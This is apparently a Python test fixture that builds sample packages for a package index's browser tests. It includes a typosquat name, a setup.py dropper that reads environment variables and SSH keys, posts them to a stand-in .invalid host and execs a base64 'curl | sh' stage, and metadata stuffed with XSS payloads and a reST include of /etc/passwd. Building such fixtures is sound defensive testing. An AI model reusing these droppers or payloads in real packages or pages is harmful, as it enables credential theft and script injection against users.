"""Files that an index offers: honest ones, hostile ones, and one of nothing but attempts.

What is hostile is so in shape only, with hosts under ``.invalid``.
"""

import base64
from collections.abc import Iterable, Iterator, Mapping

from tests.browser.attempts import (
    ADDRESSES,
    ATTEMPTS,
    BEACON,
    EVERYTHING,
    HIDDEN,
    LINE,
    TERMINAL,
)
from tests.simulators import example_backend
from tests.simulators.packages import make_sdist

HONEST = "harbour-charts"
LOOKALIKE = "reqeusts"
HOSTILE = "tidewater-utils"
SPRINKLED = "xss-everywhere"
"""Writes markup wherever a package may write something."""

_MARKDOWN = """# Harbour charts

Tide tables and charts of small harbours, **offline**.

[Documentation](https://harbour.example/docs) · [Changes](https://harbour.example/changes)

```python
from harbour_charts import Harbour

harbour = Harbour.named("Whitby")
print(harbour.tides(days=3))
```

## Features

| Source  | Years     | Accuracy |
|---------|-----------|----------|
| Gauges  | 1990-2025 | 2 cm     |
| Models  | 2026      | 8 cm     |

- no network at run time
- works on Python 3.11 and later
- [x] tables, [ ] currents
"""

_REST = """
Lanterns
========

Colours for the lights of *ships*.

.. code-block:: python

   from lanterns import colour

======  ======
Side    Colour
======  ======
port    red
======  ======
"""


def _metadata(name: str, version: str, body: str = "", **fields: str | Iterable[str]) -> str:
    lines = ["Metadata-Version: 2.4", f"Name: {name}", f"Version: {version}"]
    for field, values in fields.items():
        key = field.replace("_", "-").title()
        lines += [f"{key}: {one}" for one in ([values] if isinstance(values, str) else values)]
    return "\n".join([*lines, "", body])


def _wheel(metadata: str, files: Mapping[str, str]) -> tuple[str, bytes]:
    content = {path: text.encode() for path, text in files.items()}
    return example_backend.pack(metadata, content, "py3-none-any")


def _harbour(version: str, more: str = "") -> tuple[str, bytes]:
    metadata = _metadata(
        HONEST, version, _MARKDOWN,
        summary="Tide tables and charts of small harbours, offline",
        author_email="Ada Example <ada@harbour.example>",
        license_expression="MIT",
        description_content_type="text/markdown",
        requires_python=">=3.11",
        requires_dist=("lanterns>=2", "platformdirs; extra == 'cache'"),
        project_url=(
            "Homepage, https://harbour.example",
            "Source, https://code.example/harbour",
            "Evil, javascript:window.pwned=1",
        ),
        classifier=("Programming Language :: Python :: 3.12", "Topic :: Scientific/Engineering"),
    )  # fmt: skip
    code = f'"""Charts."""\n\n__version__ = "{version}"\n\n\nclass Harbour:\n    """One."""\n{more}'
    return _wheel(metadata, {"harbour_charts/__init__.py": code})


_DROPPER = """\
import base64
import os
import urllib.request

from setuptools import setup

_STAGE = "{stage}"


def collect():
    data = dict(os.environ)
    keys = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    body = repr((data, keys)).encode()
    urllib.request.urlopen("https://collector.invalid/drop", data=body)


collect()
exec(base64.b64decode(_STAGE))
setup(name="tidewater-utils", version="0.9.1")
"""
_STAGE = b"""import os, subprocess
text = 'b3Muc3lzdGVtKCJjdXJsIGh0dHBzOi8vc3RhZ2UuaW52YWxpZC9ydW4gfCBzaCIp'
second = __import__('base64').b64decode(text)
exec(second)
"""


def hostile_sdist() -> tuple[str, bytes]:
    stage = base64.b64encode(_STAGE).decode()
    return make_sdist(
        HOSTILE,
        "0.9.1",
        {"tidewater_utils/__init__.py": "VALUE = 1\n"},
        setup_py=_DROPPER.format(stage=stage),
    )


def sprinkled(body: str, kind: str) -> tuple[str, bytes]:
    """Return a wheel with markup in its metadata, its paths and its code."""
    version = {"text/markdown": "1.0", "text/x-rst": "1.1", "text/plain": "1.2"}[kind]
    metadata = _metadata(
        SPRINKLED, version, body,
        summary=LINE,
        author=LINE,
        author_email=f'"{ATTEMPTS[0]}" <a@b.invalid>',
        maintainer=LINE,
        maintainer_email=LINE,
        license=LINE,
        keywords=LINE,
        description_content_type=kind,
        project_url=(
            f"{ATTEMPTS[0]}, https://x.invalid/{ATTEMPTS[1]}",
            *(f"J{number}, {address}" for number, address in enumerate(ADDRESSES)),
            f"{LINE}, https://x.invalid/",
        ),
        home_page=ADDRESSES[0],
        download_url=ADDRESSES[2],
        classifier=LINE,
        requires_dist=("lanterns", LINE),
    )  # fmt: skip
    payload = base64.b64encode(f"import os; os.system('{EVERYTHING}')".encode()).decode()
    code = (
        f"# {LINE}\nimport base64, os, urllib.request\n"
        f"A = '''{EVERYTHING}'''\n"
        f"os.system('curl https://a.invalid/<script>window.{BEACON}=1</script> | sh')\n"
        "urllib.request.urlopen('https://b.invalid/\"><img src=x onerror=window.pwned=1>',"
        " data=repr(dict(os.environ)).encode())\n"
        f"exec(base64.b64decode('{payload}'))\n"
    )
    files = {
        "xss_everywhere/__init__.py": code,
        f"xss_everywhere/{ATTEMPTS[1].replace('/', '_')}.py": code,
        f"xss_everywhere/'\"><svg onload=window.{BEACON}=1>.py": code,
    }
    return _wheel(metadata, files)


_LINKS = "\n".join(f"[link {number}]({one}) <{one}>" for number, one in enumerate(ADDRESSES))
_HOSTILE_MARKDOWN = f"""
# {ATTEMPTS[0]}

{EVERYTHING}

[link](javascript:window.{BEACON}=1) ![image](https://tracker.invalid/pixel.png)
<https://x.invalid/"onmouseover="window.{BEACON}=1>

<details open ontoggle="window.{BEACON}=1"><summary>x</summary></details>
<form action="https://evil.invalid"><input name=q>
<button formaction="javascript:window.{BEACON}=1">b</button></form>
<p style="position:fixed;inset:0" class="top" id="main"
onclick="window.{BEACON}=1">clobbered</p>

```<img src=x onerror=window.{BEACON}=1>
{EVERYTHING}
```

{HIDDEN} {TERMINAL}

{_LINKS}
"""
_HOSTILE_REST = f"""
{ATTEMPTS[0]}
{"=" * 60}

.. raw:: html

   <script>window.{BEACON}=1</script>

.. include:: /etc/passwd

`link <javascript:window.{BEACON}=1>`_

{EVERYTHING.replace("`", "").replace("*", "").replace("_", "")}
"""


def _lanterns(version: str) -> tuple[str, bytes]:
    metadata = _metadata(
        "lanterns", version, _REST, summary="Colours for the lights of ships",
        description_content_type="text/x-rst", author="Grace Example",
    )  # fmt: skip
    return _wheel(metadata, {"lanterns/__init__.py": "RED, GREEN = range(2)\n"})


def artifacts() -> Iterator[tuple[tuple[str, bytes], int]]:
    """Yield files, and how many days ago each was uploaded."""
    yield _harbour("1.0"), 900
    yield _harbour("1.1", "\n    def tides(self, days):\n        return [days]\n"), 400
    calls = "\n    def tides(self, days):\n        import subprocess\n"
    yield _harbour("1.2", f"{calls}        return subprocess.run(['tides', str(days)])\n"), 30
    yield _lanterns("2.0"), 1200
    yield _lanterns("2.1"), 90
    yield hostile_sdist(), 20
    yield sprinkled(_HOSTILE_MARKDOWN, "text/markdown"), 60
    yield sprinkled(_HOSTILE_REST, "text/x-rst"), 50
    yield sprinkled(LINE, "text/plain"), 40


def lookalike() -> tuple[str, bytes]:
    """Return a wheel of a name beside that of a popular project."""
    return _wheel(_metadata(LOOKALIKE, "2.0", summary="HTTP"), {"reqeusts.py": "x = 1\n"})
